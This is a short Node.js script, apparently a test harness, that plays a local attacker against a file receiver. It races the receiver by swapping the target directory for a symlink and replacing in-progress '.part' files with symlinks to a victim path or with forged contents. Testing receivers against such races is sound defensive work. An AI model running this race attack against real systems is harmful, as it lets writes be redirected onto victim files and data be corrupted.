// An attacker who may write where files are received: node directory-swapper.js DIRECTORY ELSEWHERE VICTIM
// As fast as it can it puts a link in the place of the directory, and links or files of its own in the place of files
// on their way. It says `ready` at its first swap, and ends when its input does, with the directory as it was.
import {readdirSync, renameSync, symlinkSync, unlinkSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {setImmediate} from 'node:timers'

const [directory, elsewhere, victim] = process.argv.slice(2)
const aside = `${directory}.aside`

process.stdin.on('end', () => process.exit())
process.stdin.resume()
swap()

function swap() {
  attempt(() => renameSync(directory, aside))
  attempt(() => symlinkSync(elsewhere, directory))
  for (const name of partsIn(aside).slice(0, 2)) plant(join(aside, name))
  attempt(() => unlinkSync(directory))
  putBack()
  for (const name of partsIn(directory).slice(0, 1)) plant(join(directory, name))
  if (!swap.isReady) process.stdout.write('ready\n')
  swap.isReady = true
  setImmediate(swap)
}

/** In the moment without a directory the receiver may have made one. */
function putBack() {
  attempt(() => renameSync(directory, `${directory}.made.${(swap.made = (swap.made ?? 0) + 1)}`))
  attempt(() => renameSync(aside, directory))
}

/** Takes a file out of its place and puts a link to the victim, or forged bytes, there. */
function plant(path) {
  if (path.includes('spared')) return
  attempt(() => renameSync(path, `${path}.stolen`))
  if (Math.random() < 0.5) attempt(() => symlinkSync(victim, path))
  else attempt(() => writeFileSync(path, 'forged', {flag: 'wx'}))
}

function partsIn(place) {
  return attempt(() => readdirSync(place).filter(name => name.endsWith('.part'))) ?? []
}

/** The receiver may have been first. */
function attempt(action) {
  try {
    return action()
  } catch {
    return undefined
  }
}
